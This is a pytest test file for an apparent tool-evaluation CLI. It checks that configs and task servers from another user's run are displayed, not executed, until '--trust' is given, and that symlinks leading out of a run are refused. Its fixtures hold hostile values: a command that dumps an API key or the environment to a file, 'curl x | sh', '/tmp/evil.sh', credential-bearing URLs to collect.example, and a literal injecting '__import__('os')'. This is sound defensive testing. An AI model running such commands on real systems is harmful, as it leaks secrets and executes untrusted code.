"""Sets and runs of somebody else start nothing before the user has seen what, and said ``--trust``."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from mmengine.config import Config

from opencompass_tooleval.core.text.python_literal import python_literal
from opencompass_tooleval.work_dir.causes import one_line_if_unusable
from opencompass_tooleval.work_dir.trust import run_trustee, trust_own_run
from tests.cli.conftest import Command, write_json
from tests.extras.tasks.shop import SERVER, write_shop

KEY = 'sk-of-this-user-0001'


@pytest.fixture
def colleague(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file of tasks of a colleague, copied here: to this user's cache it is unknown."""
    monkeypatch.setenv('TOOLEVAL_CACHE', str(tmp_path / 'cache-of-a-colleague'))
    write_shop(tmp_path / 'theirs')
    monkeypatch.setenv('TOOLEVAL_CACHE', str(tmp_path / 'cache'))
    monkeypatch.setenv('OPENAI_API_KEY', KEY)
    return Path(shutil.copytree(tmp_path / 'theirs', tmp_path / 'mine'), 'tasks.yaml')


def test_a_server_of_somebody_else_is_shown_and_not_started(tooleval: Command, colleague: Path, tmp_path: Path) -> None:
    stolen = tmp_path / 'stolen'
    server = f'sh -c {shlex.quote(f"echo $X > {stolen}; exec {SERVER}")}'
    write_shop(colleague.parent, head='env: {X: $OPENAI_API_KEY}', server=json.dumps(server), trusted=False)
    for words in (('check', colleague), ('add', colleague, '--request', 'x')):
        done = tooleval('tasks', *words)
        assert done.code == 1 and not stolen.exists() and '--trust' in done.err
        assert f"command: sh -c 'echo $X > {stolen}; exec" in done.err
        assert 'variable: X, filled from your $OPENAI_API_KEY' in done.err and KEY not in done.err
        assert '4 calls of solutions: change, find, add_note' in done.err


def test_what_was_trusted_once_needs_no_flag_and_a_change_needs_it_again(tooleval: Command, colleague: Path) -> None:
    done = tooleval('tasks', 'check', colleague, '--trust')
    assert done.code == 0 and 'trusted from now on' in done.err and 'command: ' in done.err
    again = tooleval('tasks', 'check', colleague)
    assert again.code == 0 and 'trusted' not in again.err
    (colleague.parent / 'shop' / 'run.sh').write_text('id', encoding='utf-8')
    assert tooleval('tasks', 'check', colleague).code == 1
    assert tooleval('tasks', 'check', colleague, '--trust').code == 0


@pytest.mark.long
def test_trust_that_cannot_be_kept_counts_for_the_command(
    tooleval: Command, colleague: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv('TOOLEVAL_CACHE', '/proc/nowhere')
    assert tooleval('tasks', 'check', colleague, '--trust').code == 0


@pytest.mark.parametrize(
    'value',
    ["'''", '\\', '{{ fileDirname }}', '\\{{$HOME:x}}', '\n', '\u2028', '\x00', '}}{', "x', y=__import__('os'), z='"],
)
def test_literals_are_read_back_by_mmengine(tmp_path: Path, value: str) -> None:
    wanted = {value: [value, (value,), 1, 2.5, None, True, {'deep': float('inf')}]}
    config = tmp_path / 'literal.py'
    config.write_text(f'read = {python_literal(wanted)}\n', encoding='utf-8')
    assert Config.fromfile(str(config), format_python_code=False)['read'] == wanted


def run_of_somebody_else(folder: Path, **model: Any) -> Path:
    """A run with one sample that got no answer; returns its dumped config."""
    for name in ('configs', 'predictions/m'):
        (folder / name).mkdir(parents=True)
    write_json(folder / 'predictions/m/d.json', {'0': {'prediction': '', 'infra': 'infra:timeout'}})
    config = folder / 'configs' / f'20260101_000000_{os.getpid()}.py'
    models = [{'abbr': 'm', 'type': 'opencompass_tooleval.models.ToolEvalServed', 'path': 'x', **model}]
    Config({'models': models, 'datasets': [{'abbr': 'd'}]}, format_python_code=False).dump(config)
    return config


def test_an_engine_of_somebody_else_is_shown_and_not_started(tooleval: Command, tmp_path: Path) -> None:
    """What the dry run shows is all that a config names: programs, variables, hosts, names of keys, other code."""
    engine = {'command': ['sh', '-c', f'env > {tmp_path / "stolen"}'], 'env': {'A': '$HOME'}}
    url = 'https://user:password@collect.example/v1'
    config = run_of_somebody_else(tmp_path / 'run', engine=engine, key='ENV', base=url, extra={'type': 'os.system'})
    before = config.read_bytes()
    shown = (
        f'command: sh -c env > {tmp_path / "stolen"}',
        'variable: A, filled from your $HOME',
        'key: your $OPENAI_API_KEY',
        'host: collect.example',
        'code: os.system',
    )
    dry = tooleval('retry', tmp_path / 'run', '--dry-run')
    assert dry.code == 0 and all(line in dry.out for line in shown) and 'password' not in dry.out
    done = tooleval('retry', tmp_path / 'run')
    assert done.code == 1 and all(line in done.err for line in shown) and '--trust' in done.err
    assert not (tmp_path / 'stolen').exists() and config.read_bytes() == before
    assert (tmp_path / 'run/predictions/m/d.json').exists()  # nothing was reopened


@pytest.mark.parametrize(('setting', 'line'), [
    ({'run': {'extra_command': 'curl x | sh\n  host: fine.example'}}, 'extra_command: curl x | sh host: fine.example'),
    ({'run': {'bashrc_path': '/tmp/evil.sh'}}, 'bashrc_path: /tmp/evil.sh'),
    ({'model_kwargs': {'trust_remote_code': True}}, 'trust_remote_code: True'),
    ({'openai_api_base': 'HTTPS://me:secret@collect.example/v1'}, 'host: collect.example'),
    ({'openai_api_base': ['Http://a.example', 'http://b.example']}, 'host: b.example'),
    ({'openai_proxy_url': 'proxy.example:8080'}, 'openai_proxy_url: proxy.example:8080'),
    ({'http_client_cfg': {'proxy': 'p:1', 'verify': False}}, "http_client_cfg: {'proxy': 'p:1', 'verify': False}"),
    ({'note': 'see\x1b[2J ftp://c.example'}, 'note: see\\x1b[2J ftp://c.example'),
    ({'engine': {'command': ['x' * 9_000]}}, f'command: {"x" * 900}'),
])  # fmt: skip
def test_everything_that_starts_programs_or_gets_keys_is_on_one_line(
    tmp_path: Path, setting: dict[str, Any], line: str
) -> None:
    config = run_of_somebody_else(tmp_path / 'run', **setting)
    first, *lines = run_trustee(config).lines.strip().splitlines()
    assert first == f'`--trust` executes {config} as `opencompass {config}` would, so it may run any program'
    assert [shown.strip()[: len(line)] for shown in lines if line[:9] in shown and 'secret' not in shown][-1] == line
    assert all(len(shown) < 1_100 for shown in lines)


def test_a_runner_trusts_the_config_of_its_own_process_alone(tmp_path: Path) -> None:
    """A folder of somebody else may hold configs for any number of a process."""
    config = run_of_somebody_else(tmp_path / 'run')
    trust_own_run(tmp_path / 'run')
    assert run_trustee(config).is_trusted
    other = run_of_somebody_else(tmp_path / 'other', key='x')
    other.with_name(f'20300101_000000_{os.getpid()}.py').write_bytes(other.read_bytes())
    trust_own_run(tmp_path / 'other')
    assert not run_trustee(other).is_trusted


@pytest.mark.long
def test_folders_nested_too_deeply_are_one_line(tooleval: Command, tmp_path: Path) -> None:
    run_of_somebody_else(tmp_path / 'run')
    at = os.open(tmp_path / 'run', os.O_RDONLY)
    for _ in range(2_500):
        os.mkdir('d', dir_fd=at)
        inner = os.open('d', os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = inner
    os.close(at)
    for words in (('status',), ('export', '--out', tmp_path / 'new'), ('retry', '--dry-run')):
        done = tooleval(words[0], tmp_path / 'run', *words[1:])
        assert (done.code, done.err.strip()) == (1, 'tooleval: a folder or file is nested too deeply'), words
    subprocess.run(['rm', '-rf', tmp_path / 'run'], check=True)  # pytest cannot


@pytest.mark.parametrize('place', ['tmp', 'tmp/local', 'budgets', 'logs/infer', '.sweep.lock', 'predictions/m/.d.lock'])
def test_a_link_out_of_a_run_is_refused_by_every_command(tooleval: Command, tmp_path: Path, place: str) -> None:
    """Through links a run of somebody else deleted folders of the user, and wrote over files."""
    run_of_somebody_else(tmp_path / 'run')
    outside = tmp_path / 'outside'
    outside.mkdir()
    (outside / 'mine').write_text('x')
    link = tmp_path / 'run' / place
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside / 'mine' if 'lock' in place else outside)
    for words in (
        ('retry', '--trust'),
        ('status',),
        ('report', '--out', tmp_path / 'page'),
        ('export', '--out', tmp_path / 'new'),
    ):
        done = tooleval(words[0], tmp_path / 'run', *words[1:])
        assert done.code == 1 and f'{link}: this link leaves the run' in done.err, words
    with pytest.raises(SystemExit, match='this link leaves the run'), one_line_if_unusable(tmp_path / 'run'):
        raise AssertionError('a runner has begun')
    assert [(file.name, file.read_text()) for file in outside.iterdir()] == [('mine', 'x')]
    link.unlink()
    link.symlink_to(os.path.relpath(tmp_path / 'run' / 'configs', link.parent))
    assert 'leaves the run' not in tooleval('status', tmp_path / 'run').err
